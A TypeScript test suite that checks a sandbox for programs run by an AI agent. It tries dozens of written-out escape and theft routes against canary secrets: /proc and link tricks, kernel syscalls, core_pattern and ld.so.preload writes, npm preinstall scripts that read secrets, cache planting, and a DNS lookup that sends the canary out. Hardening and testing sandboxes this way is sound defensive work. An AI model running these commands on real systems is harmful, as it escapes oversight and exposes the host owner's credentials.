/**
 * Ways out of the sandbox, each tried by hand and kept: what a program of an agent could do that wants more than its folder. Beside
 * every secret lies a canary, and beside the folder things that must stay as they are.
 */
import { spawn, spawnSync } from 'node:child_process';
import { mkdir, open, readFile, readdir, stat, writeFile } from 'node:fs/promises';
import { type AddressInfo, createServer } from 'node:net';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { tempFolder } from '../../testing/temp-folder.js';
import { bridged } from '../egress/bridge.js';
import { NodeEgress } from '../egress/node-egress.js';
import { NodeProcesses } from '../programs/node-processes.js';
import { nodeRunner } from '../programs/node-runner.js';
import type { Program } from '../programs/runner.js';
import { findConfinement } from './node-confinement.js';

const CANARY = ['what', 'only', 'its', 'owner', 'knows'].join('-');

interface Around {
  /** Port of this machine at which somebody listens, who knows the canary. */
  readonly port: number;
  /** Folder of the host, with the folder of the work in it. */
  readonly base: string;
  readonly folder: string;
  readonly ended: (command: string, more?: Partial<Program>) => Promise<{ stdOut: string; stdErr: string }>;
}

async function begun(): Promise<Around> {
  const base = await tempFolder();
  const [folder, own] = [join(base, 'work'), join(base, 'studio')];
  await mkdir(join(base, 'user', '.git', 'hooks'), { recursive: true });
  await mkdir(folder);
  await mkdir(own, { mode: 0o700 });
  for (const path of ['secret', 'studio/admin.token', 'user/.git/config'])
    await writeFile(join(base, path), `${CANARY}\n`);
  // What a socket of the studio's own would be.
  const control = createServer((socket) => socket.end(`${CANARY}\n`));
  await new Promise<void>((resolve) => control.listen(join(base, 'control.sock'), resolve));
  onTestFinished(() => void control.close());
  const service = createServer((socket) => socket.end(`${CANARY}\n`));
  await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void service.close());
  const { port } = service.address() as AddressInfo;
  const egress = await NodeEgress.open(join(own, 'egress'), { hosts: ['registry.test'] });
  onTestFinished(() => egress.close());
  const confinement = await findConfinement(own);
  const processes = new NodeProcesses(own, { graceMs: 200, confinement, egress });
  await processes.recover();
  onTestFinished(() => processes.close());
  const runner = nodeRunner(processes);
  const ended: Around['ended'] = async (command, more = {}) =>
    (await runner.run({ folder, command, timeoutMs: 30_000, mostBytes: 65_536, caches: 'mine', ...more })).ended;
  return { port, base, folder, ended };
}

/** One line of Perl that makes a system call, and says its error's number. */
const calls = (...words: readonly (string | number)[]): string =>
  `perl -e 'my $z = "\\0" x 128; my $r = syscall(${words.join(', ')}); print $r < 0 ? "error ".($!+0) : "went", "\\n"'`;
const isIntel = process.arch === 'x64';

type Row = readonly [way: string, command: (around: Around) => string, said: RegExp | string];

/** Nothing is printed but what is expected: a canary among it fails. */
const ROWS: readonly Row[] = [
  ['a link to what lies beside', ({ base }) => `ln -s ${base}/secret s; cat s 2>&1`, /No such file/],
  ['a hard link to what lies beside', ({ base }) => `ln ${base}/secret h 2>&1; ls`, /No such file/],
  [
    'steps upwards',
    () => `cat ../secret ../../*/secret ../studio/admin.token ../studio/*/* 2>/dev/null; echo x > ../beside; ls ..`,
    // Made in memory, and gone with the program.
    'beside\nstudio\nwork\n',
  ],
  [
    'links in /proc to the root of others',
    ({ base }) => `cat /proc/*/root${base}/secret 2>/dev/null; ls -d /proc/[0-9]*/cwd/../secret 2>/dev/null; echo none`,
    'none\n',
  ],
  [
    'memory of others',
    () =>
      `perl -e 'my $n = 0; for (1..70000) { $n++ if kill 0, $_ } print $n < 20 ? "own\\n" : "others\\n"'; ls /proc/${process.pid} 2>/dev/null`,
    'own\n',
  ],
  ['ptrace', () => calls(isIntel ? 101 : 117, 16, process.pid, 0, 0), 'error 3\n'],
  [
    'rights of a setuid program',
    () =>
      `grep -E '^(NoNewPrivs|CapEff|CapBnd)' /proc/self/status; su -c id 2>/dev/null | head -1; sudo -n id 2>/dev/null | head -1`,
    'CapEff:\t0000000000000000\nCapBnd:\t0000000000000000\nNoNewPrivs:\t1\n',
  ],
  [
    'sockets in the abstract namespace',
    () =>
      `node -e "require('net').connect('\\0weft-escape').on('connect',()=>console.log('out')).on('error',()=>console.log('none'))"`,
    'none\n',
  ],
  [
    "sockets of the studio's own",
    ({ base }) =>
      `node -e "require('net').connect('${base}/control.sock').on('data',(b)=>console.log(String(b))).on('error',(e)=>console.log(e.code))"`,
    'ENOENT\n',
  ],
  [
    'sockets to the host of a virtual machine',
    () => `perl -e 'print socket(my $s, 40, 1, 0) ? "out\\n" : "none\\n"'`,
    'none\n',
  ],
  [
    'sockets of ciphers, packets and tables',
    () => `perl -e 'for (3, 16, 17, 38) { print socket(my $s, $_, 3, 0) ? "$_ " : "" } print "\\n"'`,
    '16 \n',
  ],
  ['keys of the session', () => calls(isIntel ? 250 : 219, 0, -3, 0), 'error 1\n'],
  ['code in the kernel', () => calls(isIntel ? 321 : 280, 0, '$z', 120), 'error 1\n'],
  ['a ring of the kernel', () => calls(425, 8, '$z'), 'error 38\n'],
  [
    'rights in a namespace of its own',
    () => 'unshare -U true 2>/dev/null && echo out; unshare -rm true 2>/dev/null && echo out; echo none',
    'none\n',
  ],
  [
    'the namespaces of others',
    () =>
      `nsenter -t 1 -m true 2>/dev/null && echo out; nsenter -t ${process.pid} -n true 2>/dev/null && echo out; echo none`,
    'none\n',
  ],
  [
    'mounts',
    ({ base }) =>
      `mkdir m; mount --bind ${base} m 2>/dev/null; mount -t tmpfs x m 2>/dev/null; mount -t cgroup2 x m 2>/dev/null; ls m; umount /usr 2>/dev/null; chroot m true 2>/dev/null; ls -d /usr`,
    '/usr\n',
  ],
  [
    'devices',
    () =>
      `mknod d b 8 0 2>/dev/null; mknod c c 1 1 2>/dev/null; ls; cat /dev/mem /dev/kmsg /dev/sda /dev/vda 2>/dev/null; ls /dev | tr '\\n' ' '`,
    /^core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero $/,
  ],
  [
    'settings of the kernel',
    () =>
      `find /proc/sys -type f -writable 2>/dev/null | head -3; v=$(cat /proc/sys/kernel/core_pattern); (echo "$v" > /proc/sys/kernel/core_pattern) 2>/dev/null && echo out; ` +
      `for p in sysrq-trigger irq bus acpi scsi fs; do test -w /proc/$p && echo $p; done; ls /sys 2>/dev/null; echo none`,
    'none\n',
  ],
  [
    'the environment and the words of parents',
    () => `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -cE '^WEFT_ESCAPE|^VITEST'`,
    '0\n',
  ],
  [
    'what types into a terminal',
    () =>
      `perl -e 'my $c = "x"; print ioctl(STDIN, 0x5412, $c) ? "typed\\n" : "none\\n"; print -e "/dev/tty" && open(my $t, "+<", "/dev/tty") ? "tty\\n" : "no tty\\n"'`,
    'none\nno tty\n',
  ],
  ['memory that is shared by name', () => `ls /dev/shm; ipcs -m 2>/dev/null | grep -c '^0x'`, '0\n'],
  [
    'names that are looked up',
    () =>
      `getent hosts example.com; node -e "require('dns').resolve('${CANARY}.example.com',(e)=>console.log(e?'none':'out'))"`,
    'none\n',
  ],
  ['files by their handles, without a path', () => calls(isIntel ? 304 : 265, -100, '$z', 0), 'error 1\n'],
  [
    'descriptors of the first process, taken over or opened anew',
    () =>
      `ls -l /proc/1/fd 2>/dev/null | grep -oE "weft-studio-[^ ]*(secret|token|sock|bpf)"; perl -e 'my $p = syscall(434, 1, 0); my $n = 0; if ($p >= 0) { for (3..20) { my $f = syscall(438, $p, $_, 0); $n++ if $f >= 0 && -e "/proc/self/fd/$f" && !readlink("/proc/self/fd/$f") } } print "$n\n"'`,
    '0\n',
  ],
  [
    'memory of others, by their numbers and by /proc',
    () =>
      `perl -e 'my $z = "x" x 16; for my $p (${process.pid}, ${process.ppid}) { print "out\n" if open(my $m, "<", "/proc/$p/mem") } print syscall(${isIntel ? 310 : 270}, ${process.pid}, $z, 1, $z, 1, 0) < 0 ? "none\n" : "out\n"'`,
    'none\n',
  ],
  [
    'what runs when something crashes, or when memory ends',
    () =>
      `for p in core_pattern modprobe hotplug poweroff_cmd; do (echo '|/bin/x' > /proc/sys/kernel/$p) 2>/dev/null && echo $p; done; (echo -1000 > /proc/self/oom_score_adj) 2>/dev/null && echo oom; (echo /bin/x > /sys/fs/cgroup/release_agent) 2>/dev/null && echo agent; echo none`,
    'none\n',
  ],
  [
    'ports of this machine, and names of its network',
    ({ port }) =>
      `node -e "for (const host of ['127.0.0.1','0.0.0.0','::1','localhost','${hostname()}']) require('net').connect(${port}, host).on('connect',()=>console.log('out '+host)).on('error',()=>{}); require('dgram').createSocket('udp4').send('x',53,'8.8.8.8',(e)=>{ console.log(e?'none':'sent'); setTimeout(()=>process.exit(), 500) })"; cat /proc/net/tcp | wc -l`,
    /^none\n\d\n$/,
  ],
  [
    'a link that changes while the host looks: its folder swapped for one that leads out',
    ({ base }) =>
      `mkdir d; (n=0; while [ $n -lt 300 ]; do rm -rf d; ln -s ${base} d; rm d; mkdir d; n=$((n+1)); done); ls ${base} 2>/dev/null | tr '\\n' ' '; echo; echo x > ${base}/secret 2>/dev/null; ls -d d`,
    'studio work \nd\n',
  ],
  [
    'a file that is larger than the disk, and one too large',
    () =>
      `truncate -s 100T huge 2>/dev/null && echo out; head -c 2200M /dev/zero > large 2>/dev/null && echo out; ls -l large | grep -cE ' (2147483648|0) '; rm -f large huge; echo none`,
    '1\nnone\n',
  ],
  ['every process that it may signal', () => `(sleep 30 & kill -9 -1) 2>/dev/null; echo on`, /^(on\n)?$/],
];

describe('a program of an agent does not get out by', () => {
  it.each(ROWS)('%s', async (_, command, said) => {
    const around = await begun();
    const abstract = createServer((socket) => socket.end(CANARY));
    await new Promise<void>((resolve) => abstract.listen('\0weft-escape', resolve));
    onTestFinished(() => void abstract.close());
    process.env['WEFT_ESCAPE'] = CANARY;
    onTestFinished(() => void delete process.env['WEFT_ESCAPE']);
    const { stdOut, stdErr } = await around.ended(command(around));
    if (typeof said === 'string') expect(stdOut).toBe(said);
    else expect(stdOut).toMatch(said);
    expect(stdOut + stdErr).not.toContain(CANARY);
    expect((await readdir(around.base)).sort()).toEqual(['control.sock', 'secret', 'studio', 'user', 'work']);
    for (const path of ['secret', 'studio/admin.token', 'user/.git/config'])
      expect(await readFile(join(around.base, path), 'utf8')).toBe(`${CANARY}\n`);
  });

  it('files that a parent has open, which it was given without being asked', async () => {
    const { base } = await begun();
    const secret = await open(join(base, 'secret'));
    onTestFinished(() => secret.close());
    const [file = '', ...argv] = bridged(
      '/usr/bin/perl',
      [],
      ['/bin/sh', '-c', 'cat <&7; cat /proc/self/fd/7; echo none'],
    );
    const stdio = ['pipe', 'pipe', 'pipe', 'ignore', 'ignore', 'ignore', 'ignore', secret.fd] as const;
    const { stdout } = spawnSync(file, argv, { stdio: [...stdio], encoding: 'utf8' });
    expect(stdout).toBe('none\n');
    const without = spawnSync('/bin/sh', ['-c', 'cat <&7'], { stdio: [...stdio], encoding: 'utf8' });
    expect(without.stdout).toBe(`${CANARY}\n`);
  });

  it('an archive whose names lead upwards', async () => {
    const { base, folder, ended } = await begun();
    await mkdir(join(base, 'packed', 'in'), { recursive: true });
    await writeFile(join(base, 'packed', 'planted'), 'x');
    const packed = spawn('tar', ['-cPf', join(folder, 'a.tar'), '../planted'], { cwd: join(base, 'packed', 'in') });
    await new Promise((resolve) => packed.once('close', resolve));
    const { stdOut } = await ended('tar -tf a.tar 2>/dev/null; tar -xPf a.tar 2>&1; ls ..');
    expect(stdOut).toMatch(/^\.\.\/planted\n/);
    expect((await readdir(base)).includes('planted')).toBe(false);
  });

  it('scripts of a package that is installed, which run in here as well', async () => {
    const { base, folder, ended } = await begun();
    const script = `cat ${base}/secret; echo x > ${base}/planted; cat ~/../root/.npmrc; echo ran > here`;
    await writeFile(join(folder, 'package.json'), JSON.stringify({ scripts: { preinstall: script } }));
    const { stdOut, stdErr } = await ended('npm install --no-audit --no-fund --foreground-scripts 2>&1');
    expect(await readFile(join(folder, 'here'), 'utf8')).toBe('ran\n');
    expect(stdOut + stdErr).not.toContain(CANARY);
    expect(await readdir(base)).not.toContain('planted');
  });

  it('what the next program would load: settings of shells, of git, of package managers, libraries', async () => {
    const { ended } = await begun();
    const places = [
      '.bashrc',
      '.profile',
      '.bash_profile',
      '.npmrc',
      '.gitconfig',
      '.config/git/config',
      '.pythonrc',
      '.local/lib/x.so',
    ];
    await ended(
      `cd; mkdir -p .config/git .local/lib; for p in ${places.join(' ')}; do echo planted > $p; done; echo /tmp/x.so > /etc/ld.so.preload`,
    );
    const { stdOut } = await ended(
      `cd; cat ${places.join(' ')} /etc/ld.so.preload 2>/dev/null; echo $LD_PRELOAD$NODE_OPTIONS$BASH_ENV; echo none`,
    );
    expect(stdOut).toBe('\nnone\n');
  });

  it('caches that programs of another repository read', async () => {
    const { ended } = await begun();
    await ended(
      'for d in ~/.npm ~/.cache ~/.cargo/registry ~/go/pkg ~/.m2/repository; do echo planted > $d/evil; done',
    );
    expect((await ended('cat ~/.npm/evil')).stdOut).toBe('planted\n');
    expect(
      (
        await ended('cat ~/.npm/evil ~/.cache/evil ~/.cargo/registry/evil ~/go/pkg/evil ~/.m2/repository/evil', {
          caches: 'other',
        })
      ).stdOut,
    ).toBe('');
  });

  it('modes and pipes that the host would stumble on: a file of another owner, a pipe, a socket', async () => {
    const { folder, ended } = await begun();
    await ended(
      'cp /bin/true setuid && chmod 6755 setuid; mkfifo pipe; python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\'sock\')"; exit 0',
    );
    const made = await stat(join(folder, 'setuid'));
    // Its owner is who runs the studio, and whoever starts it is that user already.
    expect(made.uid).toBe(process.getuid!());
    expect((await stat(join(folder, 'pipe'))).isFIFO()).toBe(true);
  });
});
